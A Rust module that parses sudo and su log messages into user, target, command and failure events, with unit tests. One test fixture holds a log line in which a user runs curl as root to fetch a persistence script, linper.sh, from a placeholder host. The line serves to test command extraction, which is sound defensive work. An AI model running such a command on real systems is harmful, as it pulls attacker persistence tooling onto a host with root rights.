//! sudo and su: who ran what as whom, and refused attempts.

use super::{after, kv, token};
use crate::logs::event::{Draft, Field, Kind};

/// Parse a sudo or su message.
pub fn parse(program: &str, msg: &str, line: &str, d: &mut Draft) -> bool {
    match program {
        "sudo" => sudo(msg, line, d),
        "su" => su(msg, line, d),
        _ => false,
    }
}

fn sudo(msg: &str, line: &str, d: &mut Draft) -> bool {
    if msg.starts_with("pam_") {
        return false;
    }
    // "alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash"
    // "alice : 3 incorrect password attempts ; TTY=... ; COMMAND=..."
    // "alice : user NOT in sudoers ; TTY=..."
    let Some((user, rest)) = msg.split_once(" : ") else {
        return true;
    };
    d.set_sub(line, Field::User, user.trim());
    let failed = rest.contains("incorrect password")
        || rest.contains("NOT in sudoers")
        || rest.contains("command not allowed")
        || rest.contains("authentication failure");
    d.kind = if failed {
        Kind::SudoFailure
    } else {
        Kind::Sudo
    };
    if failed {
        d.set_sub(line, Field::Detail, rest.split(" ; ").next().unwrap_or(""));
    }
    if let Some(t) = kv(rest, "USER=") {
        d.set_sub(line, Field::Target, t);
    }
    if let Some(c) = after(rest, "COMMAND=") {
        d.set_sub(line, Field::Command, c);
    }
    true
}

fn su(msg: &str, line: &str, d: &mut Draft) -> bool {
    if msg.starts_with("pam_") {
        return false;
    }
    if let Some(r) = msg.strip_prefix("(to ") {
        // "(to root) alice on pts/0"
        d.kind = Kind::Sudo;
        let target = r.split(')').next().unwrap_or("");
        d.set_sub(line, Field::Target, target);
        if let Some(u) = r.split_once(") ").map(|x| token(x.1)) {
            d.set_sub(line, Field::User, u);
        }
        return true;
    }
    for (pat, kind) in [
        ("Successful su for ", Kind::Sudo),
        ("FAILED su for ", Kind::SudoFailure),
        ("FAILED SU (to ", Kind::SudoFailure),
    ] {
        if let Some(r) = msg.strip_prefix(pat) {
            d.kind = kind;
            let target = token(r).trim_end_matches(')');
            d.set_sub(line, Field::Target, target);
            if let Some(by) = after(r, " by ") {
                d.set_sub(line, Field::User, token(by));
            } else if let Some(u) = r.split_once(") ").map(|x| token(x.1)) {
                d.set_sub(line, Field::User, u);
            }
            return true;
        }
    }
    // RFC 5424 example: "'su root' failed for lonvick on /dev/pts/8"
    if let Some(r) = after(msg, "' failed for ") {
        d.kind = Kind::AuthFailure;
        d.set_sub(line, Field::User, token(r));
        return true;
    }
    true
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sudo_command() {
        let line = "x cyberjunkie : TTY=pts/1 ; PWD=/home/cyberjunkie ; USER=root ; COMMAND=/usr/bin/curl https://x/linper.sh";
        let mut d = Draft::default();
        d.reset(line);
        assert!(parse("sudo", &line[2..], line, &mut d));
        assert_eq!(d.kind, Kind::Sudo);
        assert_eq!(d.get(Field::User), Some("cyberjunkie"));
        assert_eq!(d.get(Field::Target), Some("root"));
        assert_eq!(
            d.get(Field::Command),
            Some("/usr/bin/curl https://x/linper.sh")
        );
    }

    #[test]
    fn sudo_failure() {
        let line = "x bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh";
        let mut d = Draft::default();
        d.reset(line);
        assert!(parse("sudo", &line[2..], line, &mut d));
        assert_eq!(d.kind, Kind::SudoFailure);
    }
}
